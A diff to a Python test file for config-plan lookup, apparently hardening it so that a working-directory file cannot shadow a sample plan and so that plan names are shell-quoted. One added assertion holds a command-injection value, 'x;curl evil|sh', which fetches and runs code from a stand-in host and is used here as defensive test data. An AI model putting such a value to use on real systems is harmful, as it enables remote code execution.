@@ -14,11 +14,13 @@ def test_every_sample_plan_is_a_plan() -> None:
         assert load_plan(Path(name)).file == file
 
 
-def test_a_file_comes_before_a_sample_plan_of_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_no_file_of_the_working_directory_stands_for_a_sample_plan(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.chdir(tmp_path)
+    (tmp_path / "quickstart").write_text("name: theirs")
     assert find_plan(Path("quickstart")) == CONFIGS / "quickstart.yaml"
-    (tmp_path / "quickstart").write_text("name: mine")
-    assert find_plan(Path("quickstart")) == Path("quickstart")
+    assert find_plan(tmp_path / "quickstart") == tmp_path / "quickstart"
 
 
 def test_a_name_that_is_none_names_the_sample_plans() -> None:
@@ -29,6 +31,7 @@ def test_a_name_that_is_none_names_the_sample_plans() -> None:
 def test_a_sample_plan_is_called_by_its_name() -> None:
     assert plan_argument(CONFIGS / "cpu.yaml") == "cpu"
     assert plan_argument(Path("plans/cpu.yaml")) == "plans/cpu.yaml"
+    assert plan_argument(Path("x;curl evil|sh")) == "'x;curl evil|sh'"  # a run's, which may be somebody else's
 
 
 def test_copies_overwrite_nothing(tmp_path: Path) -> None:
